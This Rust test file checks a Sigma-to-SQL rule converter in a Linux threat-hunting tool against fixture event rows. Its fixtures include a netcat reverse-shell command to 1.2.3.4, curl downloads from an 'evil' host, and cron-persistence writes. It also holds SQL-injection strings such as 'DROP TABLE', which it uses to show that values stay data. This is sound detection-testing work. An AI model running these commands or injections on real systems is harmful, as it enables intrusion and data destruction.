//! Sigma rules written for these tests find the same rows as hand-written SQL over fixture
//! stores; unsupported constructs are refused with the rule, construct and line; hostile
//! values stay values.

use std::collections::BTreeSet;

use super::{Problem, convert_text, load_dir};
use crate::Catalog;
use crate::fixture::{Case, Fixture};
use crate::hunt::{self, Rule, Scope, Severity};

fn one_rule(yaml: &str) -> Rule {
    let mut rules = convert_text("test.yml", yaml);
    assert_eq!(rules.len(), 1);
    rules
        .remove(0)
        .unwrap_or_else(|e| panic!("rule refused: {e}"))
}

fn refusal(yaml: &str) -> super::SigmaError {
    let mut rules = convert_text("test.yml", yaml);
    assert_eq!(rules.len(), 1);
    match rules.remove(0) {
        Ok(rule) => panic!("rule {} was converted:\n{}", rule.id, rule.sql),
        Err(e) => e,
    }
}

/// The rows `(source_table, ktime_ns)` each rule finds over a store of `rows` (fixture JSON).
async fn findings(rows: &str, rules: &[Rule]) -> Vec<BTreeSet<(String, u64)>> {
    let fixture: Fixture = serde_json::from_str(&format!(
        r#"{{"cases": [{{"name": "t", "findings": 0, "rows": {rows}}}]}}"#
    ))
    .expect("test rows are valid fixture JSON");
    let case: &Case = &fixture.cases[0];
    let dir = tempfile::tempdir().unwrap();
    crate::fixture::build(dir.path(), &fixture, case).unwrap();
    let mut catalog = Catalog::open(dir.path()).await.unwrap();
    let mut out = Vec::new();
    for rule in rules {
        let found = hunt::run(&mut catalog, std::slice::from_ref(rule), &Scope::default())
            .await
            .unwrap_or_else(|e| panic!("rule {} failed: {e}\n{}", rule.id, rule.sql));
        out.push(
            found
                .into_iter()
                .map(|f| (f.source_table, f.ktime_ns.unwrap()))
                .collect(),
        );
    }
    out
}

fn hand_written(sql: &str) -> Rule {
    hunt::parse_rule(
        "hand.sql",
        &format!("-- id: HAND\n-- title: t\n-- severity: low\n-- mitre: T1\n{sql}"),
    )
    .unwrap()
}

/// The ktime_ns the fixture gives a row at `ms` of `pid`.
fn ktime(ms: u64, pid: u64) -> u64 {
    1_000_000_000 + ms * 1_000_000 + pid
}

const PROCESS_RULE: &str = r#"
title: Downloader or netcat with a command
id: 0d9a4c59-5f51-4d7e-a1c2-7e3f00000001
status: test
description: Test rule.
tags:
  - attack.execution
  - attack.t1059.004
  - attack.t1105
logsource:
  product: linux
  category: process_creation
detection:
  selection_download:
    Image|endswith:
      - '/curl'
      - '/wget'
    CommandLine|contains|all:
      - 'http://'
      - ' -o '
  selection_nc:
    Image|endswith: '/nc'
    CommandLine|contains: ' -e '
  filter_apt:
    ParentImage|startswith: '/usr/lib/apt/'
  condition: 1 of selection_* and not filter_apt
level: high
"#;

const PROCESS_ROWS: &str = r#"[
  {"table": "process", "ms": 0, "pid": 50, "comm": "http", "event": "exec", "filename": "/usr/lib/apt/methods/http", "exe_path": "/usr/lib/apt/methods/http", "argv": ["http"], "ppid": 1},
  {"table": "process", "ms": 1, "pid": 51, "comm": "wget", "event": "exec", "filename": "/usr/bin/wget", "exe_path": "/usr/bin/wget", "argv": ["wget", "http://x/a", "-o", "a"], "ppid": 50},
  {"table": "process", "ms": 2, "pid": 60, "comm": "sh", "event": "exec", "filename": "/bin/sh", "exe_path": "/bin/sh", "argv": ["sh"], "ppid": 1},
  {"table": "process", "ms": 3, "pid": 61, "comm": "curl", "event": "exec", "filename": "curl", "exe_path": "/usr/bin/curl", "argv": ["curl", "http://evil/x", "-o", "/tmp/x"], "ppid": 60},
  {"table": "process", "ms": 4, "pid": 62, "comm": "curl", "event": "exec", "filename": "/usr/bin/curl", "exe_path": "/usr/bin/curl", "argv": ["curl", "http://evil/x"], "ppid": 60},
  {"table": "process", "ms": 5, "pid": 63, "comm": "Nc", "event": "exec", "filename": "/opt/NC", "exe_path": "/opt/NC", "argv": ["nc", "1.2.3.4", "9", "-e", "/bin/sh"], "ppid": 60},
  {"table": "process", "ms": 6, "pid": 64, "comm": "nc", "event": "exec", "filename": "/bin/nc", "exe_path": "/bin/nc", "argv": ["nc", "-l", "9"], "ppid": 99},
  {"table": "process", "ms": 7, "pid": 65, "comm": "ncat", "event": "exec", "filename": "/bin/ncat", "exe_path": "/bin/ncat", "argv": ["ncat", "x", "-e", "sh"]}
]"#;

#[tokio::test]
async fn sigma_process_creation_finds_what_the_hand_written_sql_finds() {
    let sigma = one_rule(PROCESS_RULE);
    assert_eq!(sigma.severity, Severity::High);
    assert_eq!(sigma.mitre, ["T1059.004", "T1105"]);
    let hand = hand_written(
        "SELECT e.time, e.host, e.container_id, e.pid, e.comm, 'process' AS source_table,
                e.ktime_ns, '' AS evidence
         FROM execs e
         LEFT JOIN execs p ON p.host = e.host AND p.pid = e.ppid
         WHERE ((lower(e.exe_path) LIKE '%/curl' OR lower(e.exe_path) LIKE '%/wget')
                AND array_to_string(e.argv, ' ') LIKE '%http://%'
                AND array_to_string(e.argv, ' ') LIKE '% -o %'
             OR lower(e.exe_path) LIKE '%/nc' AND array_to_string(e.argv, ' ') LIKE '% -e %')
           AND (p.exe_path IS NULL OR p.exe_path NOT LIKE '/usr/lib/apt/%')",
    );
    let found = findings(PROCESS_ROWS, &[sigma, hand]).await;
    let expected: BTreeSet<_> = [ktime(3, 61), ktime(5, 63)]
        .into_iter()
        .map(|k| ("process".to_string(), k))
        .collect();
    assert_eq!(found[0], expected);
    assert_eq!(found[0], found[1]);
}

const FILE_RULE: &str = r#"
title: Cron or hidden tmp file written
id: 0d9a4c59-5f51-4d7e-a1c2-7e3f00000002
logsource:
  product: linux
  category: file_event
detection:
  cron:
    TargetFilename|startswith:
      - '/etc/cron.d/'
      - '/var/spool/cron/'
  hidden_by_shell:
    TargetFilename|re: '^/tmp/\.[^/]+$'
    Image|endswith: '/sh'
  condition: cron or hidden_by_shell
level: medium
tags: [attack.persistence, attack.t1053.003]
"#;

const FILE_ROWS: &str = r#"[
  {"table": "process", "ms": 0, "pid": 20, "comm": "sh", "event": "exec", "filename": "/bin/sh", "exe_path": "/bin/sh", "argv": ["sh"]},
  {"table": "process", "ms": 0, "pid": 21, "comm": "busybox", "event": "exec", "filename": "/bin/busybox", "exe_path": "/bin/busybox", "argv": ["touch"]},
  {"table": "file", "ms": 10, "pid": 20, "comm": "sh", "event": "open", "syscall": "openat", "path": "/etc/cron.d/evil", "flags": 577, "fd": 3, "ret": 3},
  {"table": "file", "ms": 11, "pid": 20, "comm": "sh", "event": "open", "syscall": "openat", "path": "/etc/cron.d/readme", "flags": 0, "fd": 3, "ret": 3},
  {"table": "file", "ms": 12, "pid": 20, "comm": "sh", "event": "rename", "path": "/tmp/a", "path2": "/var/spool/cron/root"},
  {"table": "file", "ms": 13, "pid": 20, "comm": "sh", "event": "create", "syscall": "creat", "path": "/tmp/.x", "mode": 420, "ret": 3},
  {"table": "file", "ms": 14, "pid": 21, "comm": "touch", "event": "create", "syscall": "creat", "path": "/tmp/.y", "mode": 420, "ret": 3},
  {"table": "file", "ms": 15, "pid": 20, "comm": "sh", "event": "unlink", "path": "/etc/cron.d/old"},
  {"table": "file", "ms": 16, "pid": 20, "comm": "sh", "event": "open", "syscall": "openat", "path": "/etc/cron.d/denied", "flags": 577, "ret": -13}
]"#;

#[tokio::test]
async fn sigma_file_event_finds_what_the_hand_written_sql_finds() {
    let sigma = one_rule(FILE_RULE);
    let hand = hand_written(
        "SELECT w.time, w.host, w.container_id, w.pid, w.comm, 'file' AS source_table,
                w.ktime_ns, '' AS evidence
         FROM file_writes w
         LEFT JOIN execs x ON x.host = w.host AND x.pid = w.pid
         WHERE w.succeeded AND w.event NOT IN ('unlink', 'rmdir')
           AND (coalesce(w.path2, w.path) LIKE '/etc/cron.d/%'
                OR coalesce(w.path2, w.path) LIKE '/var/spool/cron/%'
                OR (w.path ~ '^/tmp/\\.[^/]+$' AND x.exe_path LIKE '%/sh'))",
    );
    let found = findings(FILE_ROWS, &[sigma, hand]).await;
    let expected: BTreeSet<_> = [ktime(10, 20), ktime(12, 20), ktime(13, 20)]
        .into_iter()
        .map(|k| ("file".to_string(), k))
        .collect();
    assert_eq!(found[0], expected);
    assert_eq!(found[0], found[1]);
}

const NET_RULE: &str = r#"
title: Outbound to a shell port outside the private networks
id: 0d9a4c59-5f51-4d7e-a1c2-7e3f00000003
logsource:
  product: linux
  category: network_connection
detection:
  selection:
    Initiated: 'true'
    DestinationPort:
      - 4444
      - 1337
  internal:
    DestinationIp|cidr:
      - '10.0.0.0/8'
      - '192.168.0.0/16'
      - 'fd00::/8'
  condition: selection and not internal
level: critical
tags: [attack.command_and_control, attack.t1571]
"#;

const NET_ROWS: &str = r#"[
  {"table": "net", "ms": 1, "pid": 30, "comm": "sh", "event": "connect", "family": "inet", "remote_addr": "203.0.113.5", "remote_port": 4444},
  {"table": "net", "ms": 2, "pid": 30, "comm": "sh", "event": "connect", "family": "inet", "remote_addr": "10.1.2.3", "remote_port": 4444},
  {"table": "net", "ms": 3, "pid": 30, "comm": "sh", "event": "connect", "family": "inet6", "remote_addr": "::ffff:192.168.1.1", "remote_port": 1337},
  {"table": "net", "ms": 4, "pid": 30, "comm": "sh", "event": "connect", "family": "inet6", "remote_addr": "2001:db8::1", "remote_port": 1337},
  {"table": "net", "ms": 5, "pid": 30, "comm": "sh", "event": "accept", "syscall": "accept4", "family": "inet", "remote_addr": "203.0.113.9", "remote_port": 4444},
  {"table": "net", "ms": 6, "pid": 30, "comm": "sh", "event": "connect", "family": "inet", "remote_addr": "203.0.113.5", "remote_port": 80},
  {"table": "net", "ms": 7, "pid": 30, "comm": "sh", "event": "connect", "family": "inet6", "remote_addr": "fd12::9", "remote_port": 4444},
  {"table": "net", "ms": 8, "pid": 30, "comm": "sh", "event": "connect", "family": "inet", "remote_addr": "192.169.0.1", "remote_port": 4444}
]"#;

#[tokio::test]
async fn sigma_network_connection_with_cidr_finds_what_the_hand_written_sql_finds() {
    let sigma = one_rule(NET_RULE);
    assert_eq!(sigma.severity, Severity::Critical);
    let hand = hand_written(
        "SELECT n.time, n.host, n.container_id, n.pid, n.comm, 'net' AS source_table,
                n.ktime_ns, '' AS evidence
         FROM connections n
         WHERE n.direction = 'connect' AND n.remote_port IN (4444, 1337)
           AND NOT (n.remote_addr LIKE '10.%' OR n.remote_addr LIKE '192.168.%'
                    OR n.remote_addr LIKE '::ffff:192.168.%' OR n.remote_addr LIKE 'fd%')",
    );
    let found = findings(NET_ROWS, &[sigma, hand]).await;
    let expected: BTreeSet<_> = [ktime(1, 30), ktime(4, 30), ktime(8, 30)]
        .into_iter()
        .map(|k| ("net".to_string(), k))
        .collect();
    assert_eq!(found[0], expected);
    assert_eq!(found[0], found[1]);
}

fn with_detection(id: &str, logsource: &str, detection: &str) -> String {
    format!("title: t\nid: {id}\nlogsource:\n{logsource}\ndetection:\n{detection}\nlevel: low\n")
}

const PROC: &str = "  product: linux\n  category: process_creation";

#[test]
fn unsupported_constructs_name_the_rule_the_construct_and_the_line() {
    let cases = [
        // (detection, construct named, line of the construct)
        (
            "  keywords:\n    - 'evil'\n  condition: keywords",
            "keyword search",
            7,
        ),
        (
            "  sel:\n    CommandLine|base64: 'x'\n  condition: sel",
            "modifier base64",
            8,
        ),
        (
            "  sel:\n    Image: '/bin/sh'\n  condition: sel | count() by Image > 3",
            "aggregation",
            9,
        ),
        (
            "  sel:\n    Image: x\n  timeframe: 5m\n  condition: sel",
            "timeframe",
            9,
        ),
        (
            "  sel:\n    Image: x\n    Hashes|contains: abc\n  condition: sel",
            "field Hashes",
            9,
        ),
        (
            "  sel:\n    Image|contains: x\n    LogonGuid: abc\n  condition: sel",
            "field \"LogonGuid\"",
            9,
        ),
        (
            "  sel:\n    Image|frobnicate: x\n  condition: sel",
            "modifier \"frobnicate\"",
            8,
        ),
        (
            "  sel:\n    CommandLine|re: '(?<=a)b'\n  condition: sel",
            "regular expression",
            8,
        ),
        ("  sel:\n    Image: x\n  condition: 2 of sel*", "`2 of`", 9),
    ];
    for (detection, construct, line) in cases {
        let e = refusal(&with_detection("rule-x", PROC, detection));
        let text = e.to_string();
        assert_eq!(e.rule.as_deref(), Some("rule-x"), "{text}");
        assert_eq!(e.line, line, "{text}");
        assert!(
            matches!(&e.problem, Problem::Unsupported { construct: c, .. } if c.contains(construct)),
            "{text}"
        );
        assert!(
            text.contains("rule-x") && text.contains(construct),
            "{text}"
        );
        assert!(text.starts_with(&format!("test.yml:{line}:")), "{text}");
    }
    let net = "  product: linux\n  category: network_connection";
    let e = refusal(&with_detection(
        "rule-h",
        net,
        "  sel:\n    DestinationHostname|endswith: '.onion'\n  condition: sel",
    ));
    assert!(e.to_string().contains("host names"), "{e}");
    let e = refusal(&with_detection(
        "rule-w",
        "  product: windows\n  category: process_creation",
        "  sel:\n    Image: x\n  condition: sel",
    ));
    assert!(e.to_string().contains("product \"windows\""), "{e}");
    assert_eq!(e.line, 4, "{e}");
    let e = refusal(&with_detection(
        "rule-c",
        "  product: linux\n  category: dns_query",
        "  sel:\n    Image: x\n  condition: sel",
    ));
    assert!(e.to_string().contains("category \"dns_query\""), "{e}");
}

#[test]
fn a_refused_rule_does_not_stop_the_others() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("a_good.yml"), PROCESS_RULE).unwrap();
    // One file, two documents: the first refused, the second loaded.
    let two = format!(
        "{}---\n{}",
        with_detection("bad-one", PROC, "  k:\n    - evil\n  condition: k"),
        NET_RULE
    );
    std::fs::write(dir.path().join("b_two.yaml"), two).unwrap();
    std::fs::write(dir.path().join("c_broken.yml"), "title: [unclosed\n").unwrap();
    std::fs::write(dir.path().join("d_dup.yml"), PROCESS_RULE).unwrap();
    std::fs::write(dir.path().join("notes.txt"), "not a rule").unwrap();
    std::os::unix::fs::symlink(dir.path().join("a_good.yml"), dir.path().join("e_link.yml"))
        .unwrap();
    let loaded = load_dir(dir.path()).unwrap();
    let ids: Vec<_> = loaded.rules.iter().map(|r| r.id.as_str()).collect();
    assert_eq!(
        ids,
        [
            "0d9a4c59-5f51-4d7e-a1c2-7e3f00000001",
            "0d9a4c59-5f51-4d7e-a1c2-7e3f00000003"
        ]
    );
    let refused: Vec<String> = loaded.refused.iter().map(|e| e.to_string()).collect();
    assert_eq!(refused.len(), 3, "{refused:#?}");
    assert!(refused[0].contains("bad-one") && refused[0].contains("keyword search"));
    assert!(refused[1].contains("c_broken.yml") && refused[1].contains("not valid YAML"));
    assert!(refused[2].contains("d_dup.yml") && refused[2].contains("already has this id"));
}

#[tokio::test]
async fn hostile_values_and_field_names_stay_data() {
    // A field name is looked up, never written into SQL.
    let e = refusal(&with_detection(
        "inject-field",
        PROC,
        "  sel:\n    \"Image' OR 1=1 --\": x\n  condition: sel",
    ));
    assert!(matches!(e.problem, Problem::Unsupported { .. }), "{e}");
    // Values that would close the literal, end the statement, or act as LIKE wildcards
    // match only themselves.
    let rule = one_rule(&with_detection(
        "inject-value",
        PROC,
        "  quote:\n    CommandLine|contains: \"x'); DROP TABLE process; --\"\n  \
         percent:\n    CommandLine|endswith: '100%'\n  under:\n    CommandLine: 'a_b'\n  \
         backslash:\n    CommandLine|endswith: 'c:\\\\'\n  condition: 1 of them",
    ));
    assert!(crate::guard::check(&rule.sql).is_ok());
    let rows = r#"[
      {"table": "process", "ms": 1, "pid": 10, "comm": "a", "event": "exec", "filename": "/bin/a", "argv": ["x');", "DROP", "TABLE", "process;", "--"]},
      {"table": "process", "ms": 2, "pid": 11, "comm": "a", "event": "exec", "filename": "/bin/a", "argv": ["x", "OR", "1=1"]},
      {"table": "process", "ms": 3, "pid": 12, "comm": "a", "event": "exec", "filename": "/bin/a", "argv": ["ran", "100%"]},
      {"table": "process", "ms": 4, "pid": 13, "comm": "a", "event": "exec", "filename": "/bin/a", "argv": ["ran", "1000"]},
      {"table": "process", "ms": 5, "pid": 14, "comm": "a", "event": "exec", "filename": "/bin/a", "argv": ["a_b"]},
      {"table": "process", "ms": 6, "pid": 15, "comm": "a", "event": "exec", "filename": "/bin/a", "argv": ["axb"]},
      {"table": "process", "ms": 7, "pid": 16, "comm": "a", "event": "exec", "filename": "/bin/a", "argv": ["c:\\"]}
    ]"#;
    let found = findings(rows, &[rule]).await;
    let expected: BTreeSet<_> = [ktime(1, 10), ktime(3, 12), ktime(5, 14), ktime(7, 16)]
        .into_iter()
        .map(|k| ("process".to_string(), k))
        .collect();
    assert_eq!(found[0], expected);
}

#[test]
fn conditions_follow_sigma_precedence_and_quantifiers() {
    use super::model::Condition::*;
    let parse = |t: &str| super::parse::parse_condition(1, t).unwrap();
    let s = |n: &str| Search(n.into());
    assert_eq!(
        parse("a or b and not c"),
        Or(vec![s("a"), And(vec![s("b"), Not(Box::new(s("c")))])])
    );
    assert_eq!(
        parse("(a or b) and 1 of sel* and all of them"),
        And(vec![
            Or(vec![s("a"), s("b")]),
            OneOf("sel*".into()),
            AllOf("them".into())
        ])
    );
    assert!(super::parse::parse_condition(1, "a and (b").is_err());
    // A condition naming a search the detection lacks is refused at the condition's line.
    let e = refusal(&with_detection(
        "missing",
        PROC,
        "  sel:\n    Image: x\n  condition: sel and other",
    ));
    assert_eq!(e.line, 9, "{e}");
    assert!(e.to_string().contains("\"other\" is not a search"), "{e}");
    assert!(super::parse::parse_condition(1, &"(".repeat(500)).is_err());
    // `them` leaves out searches whose names start with an underscore.
    let rule = one_rule(&with_detection(
        "them",
        PROC,
        "  a:\n    Image: '/x'\n  _helper:\n    Image: '/y'\n  condition: all of them",
    ));
    assert!(
        rule.sql.contains("'/x'") && !rule.sql.contains("'/y'"),
        "{}",
        rule.sql
    );
}

#[test]
fn modifiers_convert_as_documented() {
    let rule = one_rule(&with_detection(
        "mods",
        PROC,
        "  sel:\n    CommandLine|windash|contains: ' -e '\n    Image|cased: '/bin/Sh'\n    \
         ProcessId|gte: 100\n    CurrentDirectory: null\n    User|exists: true\n  \
         condition: sel",
    ));
    let sql = &rule.sql;
    assert!(
        sql.contains("ILIKE '% /e %'") && sql.contains("ILIKE '% \u{2013}e %'"),
        "{sql}"
    );
    assert!(sql.contains("LIKE '/bin/Sh' ESCAPE"), "{sql}");
    assert!(sql.contains("(e.pid >= 100) IS TRUE"), "{sql}");
    assert!(sql.contains("e.cwd IS NULL"), "{sql}");
    assert_eq!(
        super::convert::like_pattern(r"a\*b*c?\?d%_\\"),
        r"a*b%c_?d\%\_\\"
    );
}

#[tokio::test]
async fn a_sigma_rule_runs_its_fixture_like_a_sql_rule() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("net.yml"), NET_RULE).unwrap();
    let fixture = format!(
        r#"{{"cases": [{{"name": "outbound 4444", "findings": 3, "rows": {NET_ROWS}}},
                       {{"name": "nothing", "findings": 0, "rows": []}}]}}"#
    );
    std::fs::write(dir.path().join("net.test.json"), fixture).unwrap();
    let loaded = load_dir(dir.path()).unwrap();
    let rule = &loaded.rules[0];
    let results = crate::fixture::run(rule, rule.fixture.as_deref().unwrap())
        .await
        .unwrap();
    assert_eq!(results.len(), 2);
    assert!(results.iter().all(|r| r.passed()), "{results:#?}");
}
